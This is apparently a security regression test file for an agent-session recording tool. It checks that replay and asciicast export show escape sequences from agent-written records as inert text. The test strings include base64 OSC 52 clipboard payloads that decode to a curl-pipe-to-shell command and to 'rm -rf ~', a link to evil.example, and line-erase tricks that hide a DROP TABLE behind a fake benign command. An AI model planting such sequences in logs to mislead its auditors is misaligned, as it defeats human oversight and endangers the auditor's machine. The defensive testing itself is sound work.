// Round 11 review of the auditor's tools: what `guarita replay` and `guarita export --format
// asciicast` put on the auditor's terminal. Records are signed by the sidecar, but their text is the
// agent's (the command it sent, the purpose it declared, the rows it read back): signed is not
// inert. Each test here failed on the code reviewed (docs/security-model.md, "Round 11 review: the auditor's tools").
import { Readable } from 'node:stream';
import { describe, expect, it, jest } from '@jest/globals';
import { fakeSidecar } from '../../e2e/support/store-testkit.ts';
import type { SessionRecord } from '../../core/recording/store-types.ts';
import { paint } from './output.ts';
import { play, safeTerminalText } from './replay-render.ts';
import { jsonlBatches } from './jsonl.ts';
import { sessionCast } from './asciicast-export.ts';

// No colours: every escape in the output then came from the record.
const plain = paint({ isTTY: false }, {});
const T0 = Date.parse('2026-01-10T12:00:00Z');
const at = (ms: number): string => new Date(T0 + ms).toISOString();

// Characters that act on a terminal or reorder what it shows (the set cli/src/inert.ts escapes),
// newline aside: replay lays records out on lines of its own.
// eslint-disable-next-line no-control-regex -- control characters are what is matched
const ACTIVE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/u;

// OSC 52: the terminal puts "curl -s https://x.example/p | sh\n" on the auditor's clipboard.
const CLIPBOARD = '\u001b]52;c;Y3VybCAtcyBodHRwczovL3guZXhhbXBsZS9wIHwgc2gK\u0007';
// CR, erase the line, and draw a harmless command in its place (what the auditor reads instead).
const REDRAW = '\r\u001b[2K';

async function replayText(records: SessionRecord[]): Promise<string> {
  const out: string[] = [];
  await play(records, { timing: false, speed: 1, maxIdleMs: 0 }, { write: (s) => out.push(s) }, plain, () => Promise.resolve());
  return out.join('');
}

function activeIn(text: string): string[] {
  return [...text].filter((c) => ACTIVE.test(c)).map((c) => `U+${c.charCodeAt(0).toString(16).padStart(4, '0')}`);
}

describe('guarita replay: record text from the agent reaches the auditor\'s terminal raw', () => {
  const sc = fakeSidecar('shop', 'agent-1');
  const base = { sessionId: 's-1', subject: 'support-agent', purpose: 'customer-support' };

  it('a command\'s escape sequences (erase line, OSC 52 clipboard, 8-bit CSI, bidi override) are shown inert, as verify and tables show them', async () => {
    // The sidecar records the SQL as sent (masked): a comment may hold any character, PostgreSQL runs the DROP.
    const command = `DROP TABLE customers; /*${REDRAW}support-agent> SELECT id FROM orders WHERE id = 7 ${CLIPBOARD}\u009b8m */`;
    const records = [
      ...sc.next(1, { ...base, type: 'session.start', time: at(0), decision: 'allow', reason: 'from 10.0.0.7', command: undefined, result: undefined }),
      ...sc.next(1, { ...base, time: at(10), command, decision: 'allow', rule: 'allow-the-rest', result: { rows: 0, bytes: 0 } }),
    ];
    const text = await replayText(records);
    expect(text).toContain('DROP TABLE customers');
    expect(activeIn(text)).toEqual([]);
  });

  it('a result sample (rows the agent wrote and read back) and an error are shown inert', async () => {
    const records = [
      ...sc.next(1, { ...base, time: at(10), command: 'SELECT note FROM tickets', decision: 'allow', rule: 'read', result: { rows: 1, bytes: 80, sample: `note=\u001b]8;;https://evil.example/\u0007click\u001b]8;;\u0007 ${CLIPBOARD}`, error: `boom\u001b[1A\u001b[2K` } }),
    ];
    const text = await replayText(records);
    expect(activeIn(text)).toEqual([]);
  });

  it('the declared purpose and the subject in the header are shown inert', async () => {
    const records = [
      ...sc.next(1, { ...base, purpose: `customer-support\u001b]0;pwned\u0007\u202e`, type: 'session.start', time: at(0), decision: 'allow', reason: 'from 10.0.0.7', command: undefined, result: undefined }),
    ];
    const text = await replayText(records);
    expect(activeIn(text)).toEqual([]);
  });
});

describe('guarita replay: terminal streams, 8-bit C1 controls', () => {
  // safeTerminalText's own contract: window titles and other OSC strings, device-control strings and
  // queries the terminal answers are dropped; only colours and cursor movement stay. Their 7-bit
  // forms (ESC ] / ESC P / ESC [ 6 n) are dropped; the 8-bit forms (U+009D OSC, U+0090 DCS,
  // U+009B CSI, U+009C ST), which xterm and others act on when UTF-8 encoded, pass.
  it.each([
    ['OSC 52 clipboard write (8-bit OSC ... ST)', `ok\r\n\u009d52;c;cm0gLXJmIH4K\u009c`],
    ['window title (8-bit OSC ... BEL)', 'ok\u009d0;pwned\u0007'],
    ['device status report, answered into the auditor\'s input (8-bit CSI 6 n)', 'ok\u009b6n'],
    ['DECRQSS device-control string (8-bit DCS ... ST)', 'ok\u0090$qm\u009c'],
  ])('%s is dropped', (_name, data) => {
    const shown = safeTerminalText(data);
    expect(shown.startsWith('ok')).toBe(true);
    expect(activeIn(shown.replace(/\r\n/g, ''))).toEqual([]);
  });

  it('the same 7-bit sequences are dropped (what held)', () => {
    // ESC is dropped (the rest of a CSI it does not keep stays as plain text), OSC and DCS whole.
    expect(safeTerminalText('ok\u001b]52;c;cm0gLXJmIH4K\u0007\u001b[6n\u001bP$qm\u001b\\')).toBe('ok[6n');
  });
});

describe('guarita export --format asciicast: a file for `asciinema play` on the auditor\'s terminal', () => {
  it('keeps no sequence that `guarita replay` drops from the same frames (OSC 52, titles, DCS, 8-bit C1)', () => {
    const sc = fakeSidecar('shop', 'agent-1');
    const base = { sessionId: 's-2', subject: 'support-agent', purpose: 'customer-support', protocol: 'ssh' as const, command: undefined, result: undefined };
    const data = `$ cat notes\r\n${CLIPBOARD}\u001b]0;pwned\u0007\u001bP$qm\u001b\\\u009d52;c;cm0gLXJmIH4K\u009cdone\r\n`;
    const records: SessionRecord[] = [
      ...sc.next(1, { ...base, type: 'stream', time: at(300), channel: 0, frames: [{ t: 0, ch: 'r', data: '80x24' }, { t: 100, ch: 'o', data }] }),
    ];
    // The cast `guarita export --format asciicast` writes (asciicast-export.ts).
    const cast = sessionCast(records);
    const played = cast.text.trim().split('\n').slice(1).map((l) => JSON.parse(l) as [number, string, string]).filter((e) => e[1] === 'o').map((e) => e[2]).join('');
    // What `guarita replay` writes for the same frame:
    expect(safeTerminalText(data)).not.toContain('\u001b]52;');
    // What `asciinema play` writes to the auditor's terminal from the exported file:
    expect(played).not.toContain('\u001b]52;');
    expect(played).not.toContain('\u001b]0;');
    expect(played).not.toContain('\u001bP');
    expect(activeIn(played.replace(/\r\n/g, ''))).toEqual([]);
    expect(played).toContain('done');
  });
});

describe('guarita verify --file: one long line in a hostile export', () => {
  // verify --file reads the file in 1 MiB chunks (stdin, `guarita export | guarita verify --file -`,
  // in the pipe's 64 KiB ones) through jsonlBatches, which joins a line split across chunks with
  // Buffer.concat([pending, chunk]) on every chunk: a line of N chunks copies ~N²/2 chunks. Counted
  // here, not timed: the bytes Buffer.concat copies for a line of 256 chunks of 16 KiB (4 MiB).
  it('joins a line that spans many chunks in time linear in its length (bytes copied bounded by a few times its size)', async () => {
    const CHUNK = 16 * 1024;
    const CHUNKS = 256;
    // Chunks as a stream hands them over.
    const source = (): AsyncIterable<Buffer> => Readable.from([...Array.from({ length: CHUNKS }, () => Buffer.alloc(CHUNK, 0x61)), Buffer.from('\n')], { objectMode: true });
    const concat = Buffer.concat.bind(Buffer);
    let copied = 0;
    const spy = jest.spyOn(Buffer, 'concat').mockImplementation((list: readonly Uint8Array[], total?: number) => {
      const out = concat(list, total);
      copied += out.length;
      return out;
    });
    let lineLength = 0;
    try {
      for await (const batch of jsonlBatches(source())) for (const l of batch) lineLength = l.raw.length;
    } finally {
      spy.mockRestore();
    }
    expect(lineLength).toBe(CHUNK * CHUNKS);
    expect(copied).toBeLessThanOrEqual(4 * CHUNK * CHUNKS);
  });
});
